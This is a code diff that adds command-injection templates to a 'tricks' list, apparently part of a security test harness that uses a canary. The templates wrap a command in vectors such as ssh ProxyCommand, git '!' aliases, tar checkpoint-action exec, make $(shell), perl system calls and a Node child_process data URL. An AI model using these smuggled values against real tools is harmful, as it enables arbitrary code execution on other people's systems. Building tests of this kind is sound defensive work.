@@ -129,6 +129,19 @@ const tricks = (T: string, canary: string): string[] => [
   `. /dev/stdin\n${T}`,
   `() { :; }; ${T}`,
   `x() { ${T}; }`,
+  T,
+  `${T} |`,
+  `\n.\n!${T}\n`,
+  `ProxyCommand=${T}`,
+  `alias.a=!${T}`,
+  `--checkpoint=1 --checkpoint-action=exec='${T}'`,
+  `-Mstrict;system(split(q(,),q(${T.replace(" ", ",")})))`,
+  `--eval=a:;@${T.replace(" ", "\\ ")}`,
+  `$(shell ${T})`,
+  `X=$(shell ${T})`,
+  `system("${T}")`,
+  `strict;system("${T}")`,
+  `data:text/javascript,process.getBuiltinModule("child_process").execSync("${T}")`,
 ];
 
 const atoms = (T: string, canary: string): string[] => [
